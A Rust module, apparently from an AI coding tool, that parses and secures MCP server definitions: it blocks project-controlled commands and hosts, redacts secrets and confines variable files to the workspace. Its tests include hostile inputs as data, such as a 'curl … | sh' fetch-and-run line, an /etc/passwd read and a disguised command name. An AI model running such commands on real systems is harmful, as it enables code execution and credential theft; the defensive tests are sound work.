//! Servers as they are configured.

use std::{
    path::{Path, PathBuf},
    time::Duration,
};

use super::{
    content::capped,
    variables::{self, Filling},
};
use crate::{
    config::{Fingerprint, McpServer, Secret},
    os::file,
    text::{redact, visible_line},
};

/// Bytes of a file of variables.
const VARIABLES_BYTES: u64 = 64 << 10;
/// Bytes of a value that are shown.
const SHOWN_VALUE_BYTES: usize = 200;

/// The file that defines a server.
#[derive(Clone, Debug, PartialEq, Eq)]
pub enum Origin {
    /// The user's own settings.
    Settings,
    /// A file of another program in the user's home, as it is shown.
    User(String),
    /// A file of the workspace, relative to its root.
    Project(String),
    /// A plugin that the user has added, as it is shown: `plugin NAME`.
    Plugin(String),
}

impl Origin {
    /// The file, as people know it.
    pub fn shown(&self) -> &str {
        match self {
            Self::Settings => "config.toml",
            Self::User(path) | Self::Project(path) | Self::Plugin(path) => path,
        }
    }

    /// Its owner, for a sentence.
    const fn owner(&self) -> &'static str {
        match self {
            Self::Settings | Self::User(_) => "the user's file",
            Self::Project(_) => "a project's file",
            Self::Plugin(_) => "a plugin",
        }
    }
}

/// A value that a server is given, as it is written. It is not printed.
#[derive(Clone, PartialEq, Eq)]
pub struct Given(String);

impl Given {
    /// A value.
    pub fn new(value: impl Into<String>) -> Self {
        Self(value.into())
    }

    /// The value itself.
    pub fn expose(&self) -> &str {
        &self.0
    }
}

impl std::fmt::Debug for Given {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.write_str("***")
    }
}

/// Keeps a value out of what is stored and shown.
fn hold(value: &str) {
    redact::hold(value.strip_prefix("Bearer ").unwrap_or(value));
}

/// Returns true for the name of a key; others, such as those of paths, are of no secrets.
fn is_key(name: &str) -> bool {
    const KEYS: [&str; 9] = [
        "KEY",
        "TOKEN",
        "SECRET",
        "PASS",
        "AUTH",
        "CREDENTIAL",
        "COOKIE",
        "SESSION",
        "_PAT",
    ];
    let name = name.to_ascii_uppercase();
    KEYS.iter().any(|it| name.contains(it))
}

/// The way to a server, as it is written.
#[derive(Clone, Debug, PartialEq)]
pub enum Endpoint {
    /// A program to start.
    Program {
        command: String,
        arguments: Vec<String>,
        variables: Vec<(String, Given)>,
        /// A file with more of them.
        variables_file: Option<String>,
        directory: Option<String>,
    },
    Http {
        url: String,
        headers: Vec<(String, Given)>,
    },
    /// Nothing that could be reached; why not.
    Unusable(String),
}

/// A server as it is configured.
#[derive(Clone, Debug, PartialEq)]
pub struct Definition {
    pub name: String,
    pub origin: Origin,
    pub endpoint: Endpoint,
    pub network: bool,
    /// As they are written.
    pub folders: Vec<String>,
    /// Time limit of a call; `None`: as usual.
    pub timeout: Option<Duration>,
    pub is_enabled: bool,
    pub disabled_tools: Vec<String>,
    pub client: OAuthClient,
}

/// This program at an authorization server, as the user has registered it.
#[derive(Clone, Debug, Default, PartialEq)]
pub struct OAuthClient {
    pub id: Option<String>,
    pub secret: Option<Secret>,
    /// File of a private key.
    pub key_file: Option<PathBuf>,
    /// It signs in without a user.
    pub is_alone: bool,
}

/// An endpoint with everything filled in.
#[derive(Clone, Debug, PartialEq)]
pub enum Resolved {
    Program {
        command: String,
        arguments: Vec<String>,
        variables: Vec<(String, String)>,
        directory: PathBuf,
        folders: Vec<PathBuf>,
    },
    Http {
        url: String,
        headers: Vec<(String, String)>,
    },
}

impl Definition {
    /// A server of the user's settings; `None` if the entry only adds to what a file defines.
    pub fn of_settings(name: &str, entry: &McpServer) -> Option<Self> {
        let variables = entry.env.iter().map(|(name, it)| (name.clone(), Given::new(it)));
        let exposed = |it: &Secret| Given(it.expose().to_owned());
        let headers = entry.headers.iter().map(|(name, it)| (name.clone(), exposed(it)));
        let endpoint = match (&entry.command, &entry.url) {
            (Some(command), None) => Endpoint::Program {
                command: command.clone(),
                arguments: entry.args.clone(),
                variables: variables.collect(),
                variables_file: None,
                directory: None,
            },
            (None, Some(url)) => Endpoint::Http {
                url: url.clone(),
                headers: headers.collect(),
            },
            (Some(_), Some(_)) => Endpoint::Unusable("it has both a command and a url; remove one".to_owned()),
            (None, None) => return None,
        };
        let mut definition = Self::new(name, Origin::Settings, endpoint);
        definition.add(entry);
        Some(definition)
    }

    /// A server without grants.
    pub fn new(name: &str, origin: Origin, endpoint: Endpoint) -> Self {
        let mut definition = Self {
            name: name.to_owned(),
            origin,
            endpoint,
            network: false,
            folders: Vec::new(),
            timeout: None,
            is_enabled: true,
            disabled_tools: Vec::new(),
            client: OAuthClient::default(),
        };
        definition.check();
        definition.hold();
        definition
    }

    /// Keeps the keys in the user's own files out of what is stored and shown. What a project's file says is no secret, and
    /// must not take anything out of what the user and the model read.
    fn hold(&self) {
        let (Endpoint::Program { variables: pairs, .. } | Endpoint::Http { headers: pairs, .. }) = &self.endpoint
        else {
            return;
        };
        let is_literal = |it: &&(String, Given)| is_key(&it.0) && variables::names(it.1.expose()).is_empty();
        for (_, value) in pairs.iter().filter(|it| !self.is_foreign() && is_literal(it)) {
            hold(value.expose());
        }
    }

    /// In a file of somebody else nothing of the user's decides which program runs or which host is reached.
    fn check(&mut self) {
        if !self.is_foreign() {
            return;
        }
        let wrong = match &self.endpoint {
            Endpoint::Program { command, .. } if !variables::names(command).is_empty() => "the command",
            Endpoint::Http { url, .. } if !variables::names(url).is_empty() && has_open_host(url) => {
                "the host of the url"
            }
            Endpoint::Program { .. } | Endpoint::Http { .. } | Endpoint::Unusable(_) => return,
        };
        self.endpoint = Endpoint::Unusable(format!(
            "a variable in {wrong} is not filled in for {}",
            self.origin.owner()
        ));
    }

    /// Adds the grants and switches of an entry of the user's settings.
    pub fn add(&mut self, entry: &McpServer) {
        self.network |= entry.network;
        self.folders.extend(entry.folders.iter().cloned());
        self.is_enabled &= entry.enabled;
        if !entry.timeout.is_zero() {
            self.timeout = Some(entry.timeout);
        }
        self.disabled_tools.extend(entry.disabled_tools.iter().cloned());
        if entry.client_id.is_some() {
            self.client = OAuthClient {
                id: entry.client_id.clone(),
                secret: entry.client_secret.clone(),
                key_file: entry.client_key_file.clone(),
                is_alone: entry.sign_in == "client",
            };
        }
    }

    /// Returns true for a server that somebody else has defined, in a project or a plugin: it runs nothing before it was approved.
    pub fn is_foreign(&self) -> bool {
        matches!(self.origin, Origin::Project(_) | Origin::Plugin(_))
    }

    /// The command line or the address as it is written, in one harmless line.
    pub fn line(&self) -> String {
        let line = match &self.endpoint {
            Endpoint::Program { command, arguments, .. } => {
                let words = std::iter::once(command).chain(arguments);
                words.map(|it| quoted(it)).collect::<Vec<_>>().join(" ")
            }
            Endpoint::Http { url, .. } => url.clone(),
            Endpoint::Unusable(_) => String::new(),
        };
        visible_line(&line).into_string()
    }

    /// Everything that it is given, as it is written: `NAME=value`, or the name of a variable of the user's in its command line or
    /// address. Keys are left out, and of the user's own servers all values: nobody is asked about these.
    pub fn given(&self) -> Vec<String> {
        let (mut all, pairs, file) = match &self.endpoint {
            Endpoint::Program {
                command,
                arguments,
                variables,
                variables_file,
                ..
            } => {
                let texts = std::iter::once(command).chain(arguments);
                let names: Vec<String> = texts.flat_map(|it| variables::names(it)).collect();
                (names, variables, variables_file.as_ref())
            }
            Endpoint::Http { url, headers } => (variables::names(url), headers, None),
            Endpoint::Unusable(_) => return Vec::new(),
        };
        let pair = |(name, value): &(String, Given)| {
            let value = if self.is_foreign() {
                capped(&redact::held(value.expose()), SHOWN_VALUE_BYTES)
            } else {
                "…".to_owned()
            };
            format!("{name}={value}")
        };
        all.extend(pairs.iter().map(pair));
        all.extend(file.map(|it| format!("all of {it}")));
        all.iter().map(|it| visible_line(it).into_string()).collect()
    }

    /// Its folder, and what the user's own entry grants it beside reading: a phrase each.
    pub fn reach(&self) -> Vec<String> {
        let Endpoint::Program { directory, .. } = &self.endpoint else {
            return Vec::new();
        };
        let mut all: Vec<String> = directory.iter().map(|it| format!("runs in {it}")).collect();
        all.extend(self.network.then(|| "has the network".to_owned()));
        all.extend(self.folders.iter().map(|it| format!("writes {it}")));
        all.iter().map(|it| visible_line(it).into_string()).collect()
    }

    /// Fingerprint of everything that decides what runs and what it is given.
    pub fn print(&self) -> Fingerprint {
        let mut parts: Vec<String> = Vec::new();
        match &self.endpoint {
            Endpoint::Program {
                command,
                arguments,
                variables,
                variables_file,
                directory,
            } => {
                parts.extend(["program".to_owned(), command.clone(), arguments.len().to_string()]);
                parts.extend(arguments.iter().cloned());
                parts.extend(variables.iter().flat_map(|it| [it.0.clone(), it.1.expose().to_owned()]));
                parts.push(format!("{variables_file:?} {directory:?}"));
            }
            Endpoint::Http { url, headers } => {
                parts.extend(["http".to_owned(), url.clone()]);
                parts.extend(headers.iter().flat_map(|it| [it.0.clone(), it.1.expose().to_owned()]));
            }
            Endpoint::Unusable(why) => parts.push(why.clone()),
        }
        let parts: Vec<&[u8]> = parts.iter().map(String::as_bytes).collect();
        Fingerprint::of(&parts)
    }

    /// Fills everything in. Error: what is missing, as `needs NAME`.
    pub fn resolve(&self, workspace: &Path, variable: &dyn Fn(&str) -> Option<String>) -> Result<Resolved, String> {
        let home = std::env::home_dir();
        let with = Filling {
            variable,
            home: home.as_deref(),
            workspace,
        };
        let fill = |text: &str| variables::fill(text, &with).map_err(|it| needs(&it));
        let pairs = |it: &[(String, Given)]| {
            let filled = it.iter().map(|(name, value)| {
                // What the user's environment gives is a secret, whatever the file says around it.
                let looked_up = |it: &str| {
                    let value = variable(it)?;
                    if is_key(name) || is_key(it) {
                        hold(&value);
                    }
                    Some(value)
                };
                let with = Filling {
                    variable: &looked_up,
                    ..with
                };
                let filled = variables::fill(value.expose(), &with).map_err(|it| needs(&it))?;
                Ok((name.clone(), filled))
            });
            filled.collect::<Result<Vec<_>, String>>()
        };
        match &self.endpoint {
            Endpoint::Program {
                command,
                arguments,
                variables,
                variables_file,
                directory,
            } => {
                let mut given = Vec::new();
                if let Some(path) = variables_file {
                    let path = fill(path)?;
                    given = self.read_variables(workspace, &path)?;
                }
                given.extend(pairs(variables)?);
                let directory = match directory {
                    Some(directory) => workspace.join(fill(directory)?),
                    None => workspace.to_owned(),
                };
                Ok(Resolved::Program {
                    command: tilde(&fill(command)?, home.as_deref()),
                    arguments: arguments.iter().map(|it| fill(it)).collect::<Result<_, _>>()?,
                    variables: given,
                    directory,
                    folders: self
                        .folders
                        .iter()
                        .map(|it| workspace.join(tilde(it, home.as_deref())))
                        .map(|it| it.canonicalize().unwrap_or(it))
                        .collect(),
                })
            }
            Endpoint::Http { url, headers } => Ok(Resolved::Http {
                url: fill(url)?,
                headers: pairs(headers)?,
            }),
            Endpoint::Unusable(why) => Err(why.clone()),
        }
    }

    fn read_variables(&self, workspace: &Path, path: &str) -> Result<Vec<(String, String)>, String> {
        let failed = |it: &dyn std::fmt::Display| format!("its file of variables cannot be read: {it}");
        let absolute = workspace.join(path);
        let bytes = if self.is_foreign() {
            let inner = absolute
                .strip_prefix(workspace)
                .map_err(|_| failed(&"it is outside the workspace"))?;
            file::read_beneath(workspace, inner, VARIABLES_BYTES).map_err(|it| failed(&it))?
        } else {
            file::read(&absolute, VARIABLES_BYTES).map_err(|it| failed(&it))?
        };
        Ok(dotenv(&String::from_utf8_lossy(&bytes)))
    }
}

fn needs(name: &str) -> String {
    match name.strip_prefix("input:") {
        Some(id) => format!("needs the input `{id}`, which sheaf does not ask for: define the server in config.toml"),
        None => format!("needs {name}, which is not set"),
    }
}

/// Returns true if something that is filled in decides who is reached.
fn has_open_host(url: &str) -> bool {
    let filled = |with: &str| {
        let mut text = String::new();
        let mut rest = url;
        while let Some((before, after)) = rest.split_once("${") {
            text.push_str(before);
            text.push_str(with);
            rest = after.split_once('}').map_or("", |it| it.1);
        }
        text.push_str(rest);
        url::Url::parse(&text)
            .ok()
            .map(|it| (it.origin(), it.username().to_owned()))
    };
    // Whatever is put in, the same host is reached, and it can be told which.
    let places = ["a", "b", "//b", "@b", ":1", "/b"].map(filled);
    places.iter().any(|it| it.is_none() || *it != places[0])
}

fn tilde(path: &str, home: Option<&Path>) -> String {
    match (path.strip_prefix("~/"), home) {
        (Some(rest), Some(home)) => home.join(rest).to_string_lossy().into_owned(),
        _ => path.to_owned(),
    }
}

fn quoted(word: &str) -> String {
    let is_plain = |it: char| it.is_alphanumeric() || "-_./:=@%+,~$".contains(it);
    if !word.is_empty() && word.chars().all(is_plain) {
        return word.to_owned();
    }
    format!("'{}'", word.replace('\'', "'\\''"))
}

/// The lines `NAME=value` of a file.
fn dotenv(text: &str) -> Vec<(String, String)> {
    let entry = |line: &str| {
        let line = line.trim();
        let line = line.strip_prefix("export ").unwrap_or(line);
        let (name, value) = line.split_once('=').filter(|_| !line.starts_with('#'))?;
        let value = value.trim();
        let inner = |quote| value.strip_prefix(quote)?.strip_suffix(quote);
        let value = inner('"').or_else(|| inner('\'')).unwrap_or(value);
        Some((name.trim().to_owned(), value.to_owned()))
    };
    text.lines().filter_map(entry).collect()
}

#[cfg(test)]
mod tests {
    use pretty_assertions::assert_eq;

    use super::*;

    fn program(origin: Origin, command: &str, arguments: &[&str], variables: &[(&str, &str)]) -> Definition {
        let endpoint = Endpoint::Program {
            command: command.to_owned(),
            arguments: arguments.iter().map(|it| (*it).to_owned()).collect(),
            variables: variables
                .iter()
                .map(|(name, value)| ((*name).to_owned(), Given::new(*value)))
                .collect(),
            variables_file: None,
            directory: None,
        };
        Definition::new("s", origin, endpoint)
    }

    fn http(origin: Origin, url: &str) -> Definition {
        let endpoint = Endpoint::Http {
            url: url.to_owned(),
            headers: Vec::new(),
        };
        Definition::new("s", origin, endpoint)
    }

    fn project() -> Origin {
        Origin::Project(".mcp.json".to_owned())
    }

    #[test]
    fn no_variable_decides_who_is_reached() {
        for (url, is_open) in [
            ("https://example.org/${X}", false),
            ("https://example.org/a?key=${X}#${Y}", false),
            ("http://127.0.0.1:3000/${X:-a/b}", false),
            ("https://${X}/", true),
            ("https://${X}.example.org/", true),
            ("https://example.org${X}/", true),
            ("https://example.org:${X}/", true),
            ("https://${X}@example.org/", true),
            ("https:///${X}.example.org/", true),
            ("https:/${X}/", true),
            ("https:${X}/", true),
            ("${X}", true),
            ("${X}://example.org/", true),
        ] {
            assert_eq!(has_open_host(url), is_open, "{url}");
        }
    }

    #[test]
    fn a_project_fills_neither_its_command_nor_its_host() {
        let variable = |name: &str| Some(format!("<{name}>"));
        let resolve = |it: Definition| it.resolve(Path::new("/work"), &variable);
        for (definition, is_filled) in [
            (program(project(), "${X}", &[], &[]), false),
            (program(project(), "run-${env:X:-y}", &[], &[]), false),
            (
                program(project(), "${workspaceFolder}/run", &["${X}"], &[("A", "${X}")]),
                true,
            ),
            (program(Origin::Settings, "${X}", &[], &[]), true),
            (http(project(), "https://${X}/mcp"), false),
            (http(project(), "https://a.example:${X}/mcp"), false),
            (http(project(), "${X}"), false),
            (http(project(), "https://${X:-a/b}.example/x"), false),
            (http(project(), "https://a.example/${X}?k=${Y}"), true),
            (
                http(Origin::User("~/.cursor/mcp.json".to_owned()), "https://${X}/mcp"),
                true,
            ),
        ] {
            let shown = format!("{definition:?}");
            assert_eq!(resolve(definition).is_ok(), is_filled, "{shown}");
        }
    }

    #[test]
    fn an_approval_is_of_all_that_decides_what_runs() {
        let one = program(project(), "npx", &["-y", "a b"], &[("KEY", "${SECRET}"), ("B", "1")]);
        assert_eq!(one.line(), "npx -y 'a b'");
        assert_eq!(one.given(), ["KEY=${SECRET}", "B=1"]);
        let others = [
            program(project(), "npx", &["-y", "a", "b"], &[("KEY", "${SECRET}"), ("B", "1")]),
            program(project(), "npx", &["-y", "a b"], &[("KEY", "${OTHER}"), ("B", "1")]),
            program(project(), "npx", &["-y", "a b"], &[("KEY", "${SECRET}"), ("B", "2")]),
            program(project(), "npx", &["-y", "a b"], &[("KEY", "${SECRET}")]),
        ];
        for other in others {
            assert_ne!(one.print(), other.print(), "{other:?}");
        }
        assert_eq!(one.print(), Definition { network: true, ..one }.print());
        let hidden = program(project(), "sh\u{202e}", &["\u{1b}[2J\n"], &[]);
        assert!(
            !hidden.line().contains(['\u{1b}', '\u{202e}', '\n']),
            "{}",
            hidden.line()
        );
    }

    #[test]
    fn a_projects_file_takes_nothing_out_of_what_is_read() {
        let texts = ["${AWS_SECRET_ACCESS_KEY}", "curl http://example.org/x.sh | sh 1"];
        let one = program(project(), "a", &[], &[("API_KEY", texts[0]), ("TOKEN", texts[1])]);
        assert_eq!(
            one.given(),
            [format!("API_KEY={}", texts[0]), format!("TOKEN={}", texts[1])]
        );
        for text in texts {
            assert_eq!(redact::held(text), text);
        }
        let value = |_: &str| Some("definition-test-value-0".to_owned());
        assert!(one.resolve(Path::new("/work"), &value).is_ok());
        assert_eq!(redact::held(texts[1]), texts[1], "when it is started, too");
        assert_ne!(redact::held("x definition-test-value-0"), "x definition-test-value-0");
        program(Origin::Settings, "a", &[], &[("API_KEY", "definition-test-value-1")]);
        assert_ne!(redact::held("definition-test-value-1"), "definition-test-value-1");
    }

    #[test]
    fn what_is_missing_is_named() {
        let none = |_: &str| None;
        let resolve = |it: Definition| it.resolve(Path::new("/work"), &none).map(drop);
        let missing = resolve(program(project(), "a", &[], &[("K", "${TOKEN}")]));
        assert_eq!(missing, Err("needs TOKEN, which is not set".to_owned()));
        let input = resolve(program(project(), "a", &["${input:key}"], &[]));
        assert!(input.is_err_and(|it| it.contains("the input `key`")));
        let folder = tempfile::tempdir().unwrap();
        std::fs::write(folder.path().join(".vars"), "# x\nexport A=1\nB='two words'\nbad\n").unwrap();
        let mut definition = program(project(), "a", &[], &[("B", "3")]);
        let set = |it: &mut Definition, path: &str| {
            if let Endpoint::Program { variables_file, .. } = &mut it.endpoint {
                *variables_file = Some(path.to_owned());
            }
        };
        set(&mut definition, "${workspaceFolder}/.vars");
        assert_eq!(definition.given(), ["B=3", "all of ${workspaceFolder}/.vars"]);
        let Ok(Resolved::Program { variables, .. }) = definition.resolve(folder.path(), &none) else {
            panic!("it is a program");
        };
        assert_eq!(
            variables,
            [("A", "1"), ("B", "two words"), ("B", "3")].map(|(a, b)| (a.to_owned(), b.to_owned()))
        );
        set(&mut definition, "/etc/passwd");
        assert!(definition.resolve(folder.path(), &none).is_err());
        set(&mut definition, "../x");
        assert!(definition.resolve(folder.path(), &none).is_err());
    }
}
